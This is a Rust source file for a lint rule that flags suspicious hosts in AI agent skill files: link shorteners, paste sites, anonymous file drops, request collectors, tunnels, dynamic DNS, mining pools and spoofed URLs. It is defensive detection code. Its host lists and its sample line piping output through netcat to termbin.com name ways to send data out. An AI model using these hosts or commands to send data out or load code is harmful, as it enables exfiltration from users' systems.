//! SKL538: hosts that anyone can use anonymously.

use crate::security::code_context::{self, CodeContext, Language};
use crate::rule::{Check, Example, Origin, Pattern, Rule, Severity, Tier};
use crate::view::{PatternHit, LintFile};
use crate::{FileView, Report};
use crate::security::{hits, host, context_window};

pub static RULE: Rule = Rule {
    id: "SKL538",
    name: "suspicious-host",
    severity: Severity::Warning,
    tier: Tier::Harms,
    origin: Origin::Field("Snyk agent-scan E005, skillshare suspicious-url"),
    why: "Link shorteners, paste sites, file drops and request collectors hide who answers and who listens; skills \
          that steal data or load code use them.",
    fix: "Use the real URL, at a host whose owner is known.",
    params: &[],
    patterns: &[
        Pattern {
            needles: || &[
                "bit.ly",
                "tinyurl",
                "://t.co/",
                "goo.gl",
                "://is.gd",
                "://v.gd",
                "ow.ly",
                "buff.ly",
                "rebrand.ly",
                "cutt.ly",
                "shorturl.at",
                "rb.gy",
                "tiny.cc",
                "://t.ly",
                "adf.ly",
                "clck.ru",
                "surl.li",
                "shorte.st",
                "pastebin",
                "paste.ee",
                "hastebin",
                "rentry.",
                "ghostbin",
                "dpaste.",
                "termbin",
                "ix.io",
                "sprunge.us",
                "paste.rs",
                "0bin.net",
                "privatebin",
                "controlc.com",
                "justpaste.it",
                "pastes.dev",
                "transfer.sh",
                "file.io",
                "0x0.st",
                "anonfiles",
                "gofile.io",
                "catbox.moe",
                "temp.sh",
                "bashupload",
                "uguu.se",
                "oshi.at",
                "filebin.net",
                "webhook.site",
                "requestbin",
                "pipedream.net",
                "requestcatcher",
                "beeceptor",
                "hookbin",
                "postb.in",
                "interact.sh",
                "oast.",
                "oastify",
                "burpcollaborator",
                "canarytokens",
                "dnslog.",
                "ceye.io",
                "ptsv2.com",
                "ngrok.",
                "ngrok-free",
                "trycloudflare",
                "serveo.net",
                "localhost.run",
                "loca.lt",
                "lhr.life",
                "bore.pub",
                ".onion",
                "duckdns.",
                "no-ip.",
                "ddns.net",
                "hopto.org",
                "zapto.org",
                "://xn--",
                ".xn--",
            ],
            regex: r"(?i-u)(?:\b(?:https?|wss?|ftp|tcp)://(?:[!-.0-?A-~]*@)?)?\b((?:[a-z0-9_-]+\.)*[a-z0-9-]+\.[a-z]{2,6})\b(?:[:/?][!#-&(-;=?-_a-~]*)?",
        },
        Pattern {
            // The name before the `@` is the user's, but looks like the host.
            needles: || &[".com@", ".org@", ".net@", ".io@", ".dev@", ".ai@", ".com:443@"],
            regex: r"(?i-u)\bhttps?://([a-z0-9.-]+\.[a-z]{2,6}(?::[0-9]+)?@[a-z0-9.-]+\.[a-z]{2,6})\b",
        },
        Pattern {
            needles: || &["stratum+"],
            regex: r"(?i-u)\b(stratum\+(?:tcp|ssl|tls)://[!#-&(-~]+)",
        },
    ],
    good: &[Example::new(&[(
        "SKILL.md",
        crate::skill_md!("Long links are made short by `bitly` and others. See https://example.com/links.\n"),
    )])],
    bad: &[
        Example::new(&[(
            "SKILL.md",
            crate::skill_md!("The template stands at https://bit.ly/3xYzAbC today.\n"),
        )]),
        Example::new(&[("SKILL.md", crate::skill_md!("```sh\nuptime | nc termbin.com 9999\n```\n"))]),
    ],
    check: Check::File(check),
};

/// Index of the pattern for addresses of mining pools.
const MINING: usize = 2;

/// Kinds of such hosts, each with its names.
const HOSTS: &[(&str, &str)] = &[
    (
        "a link shortener",
        "bit.ly|tinyurl.com|t.co|goo.gl|is.gd|v.gd|ow.ly|buff.ly|rebrand.ly|cutt.ly|shorturl.at|rb.gy|tiny.cc|t.ly|adf.ly|clck.ru|surl.li|shorte.st",
    ),
    (
        "a paste site",
        "pastebin.com|paste.ee|hastebin.com|rentry.co|rentry.org|ghostbin.com|ghostbin.co|dpaste.com|dpaste.org|termbin.com|ix.io|sprunge.us|paste.rs|0bin.net|\
         privatebin.net|privatebin.info|controlc.com|justpaste.it|pastes.dev",
    ),
    (
        "an anonymous file drop",
        "transfer.sh|file.io|0x0.st|anonfiles.com|gofile.io|catbox.moe|temp.sh|bashupload.com|uguu.se|oshi.at|filebin.net",
    ),
    (
        "a request collector",
        "webhook.site|requestbin.com|requestbin.net|pipedream.net|requestcatcher.com|beeceptor.com|hookbin.com|postb.in|interact.sh|oast.fun|oast.pro|oast.live|\
         oast.site|oast.online|oast.me|oastify.com|burpcollaborator.net|canarytokens.com|dnslog.cn|dnslog.pw|ceye.io|ptsv2.com",
    ),
    (
        "a host behind a dynamic DNS name",
        "duckdns.org|no-ip.org|no-ip.com|ddns.net|hopto.org|zapto.org|onion",
    ),
    (
        "a tunnel to a private machine",
        "ngrok.io|ngrok.app|ngrok.dev|ngrok-free.app|ngrok-free.dev|trycloudflare.com|serveo.net|localhost.run|loca.lt|lhr.life|bore.pub",
    ),
];

fn check(view: &FileView<'_>, report: &mut Report<'_>) {
    for hit in hits::unwarned(view.file, &RULE) {
        let name = view.file.slice(&hit.span);
        if hit.pattern == MINING {
            report.at(hit.span.clone(), format!("'{name}' is a mining pool"));
            continue;
        }
        if name.contains('@') {
            report.at(hit.span.clone(), format!("'{name}' displays another host than its target"));
            continue;
        }
        if let Some(kind) = kind(name).filter(|_| is_address(view.file, hit) && !is_own_file(view, hit)) {
            report.at(hit.span.clone(), format!("'{name}' is {kind}"));
        }
    }
}

/// Whether a name alone is that of a script of the skill, `transfer.sh`, in a text or shell on a line that sends nothing.
fn is_own_file(view: &FileView<'_>, hit: &PatternHit) -> bool {
    let name = view.file.slice(&hit.span);
    let is_place = matches!(
        code_context::context_at(view.file, hit.span.start),
        CodeContext::Prose | CodeContext::Inline | CodeContext::Block(Language::Shell) | CodeContext::File(Language::Shell)
    );
    let line = view.file.line_at(hit.span.start);
    let (before, after) = (view.file.slice(&(line.start..hit.span.start)), view.file.slice(&(hit.span.end..line.end.max(hit.span.end))));
    let is_sent = SENDERS.iter().any(|word| before.contains(word)) || after.starts_with(['/', ':'])
        || before.trim_end_matches(['"', '\'']).ends_with('=');
    is_place && !is_sent && name.ends_with(".sh") && view.context.survey.files.iter().any(|file| file.path.name() == name)
}

/// What sends something to a host that follows.
const SENDERS: [&str; 8] = ["://", "curl", "wget", "nc ", "ncat", "http", "ssh ", "scp "];

fn kind(name: &str) -> Option<&'static str> {
    if name.split('.').any(|label| label.starts_with("xn--")) {
        return Some("written in letters that may imitate another name");
    }
    let is_one = |names: &str| names.split('|').any(|listed| host::is_below(name, listed));
    HOSTS.iter().find(|(_, names)| is_one(names)).map(|(kind, _)| *kind)
}

/// Whether a match is more than the name of a service: with a scheme before it, a path after it, or a command around
/// it.
fn is_address(file: &LintFile, hit: &PatternHit) -> bool {
    let Some(text) = file.text.as_deref() else { return false };
    let has_scheme = text[..hit.span.start].ends_with("://");
    let path = context_window::after(text, hit.span.end, 3);
    let has_path = path
        .strip_prefix('/')
        .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphanumeric() || "$<{".contains(c)));
    let is_home = has_scheme
        && !has_path
        && code_context::context_at(file, hit.span.start) == CodeContext::Prose
        && !name_has_part(text, hit);
    let is_code = matches!(code_context::context_at(file, hit.span.start), CodeContext::Block(_) | CodeContext::File(_));
    (has_scheme && !is_home) || has_path || is_code
}

/// Whether the host begins with a label of the user's choice: `x7f3.oast.fun`.
fn name_has_part(text: &str, hit: &PatternHit) -> bool {
    let name = &text[hit.span.clone()];
    name.split('.').count() > 2 && !name.starts_with("www.") && !name.starts_with("docs.")
}
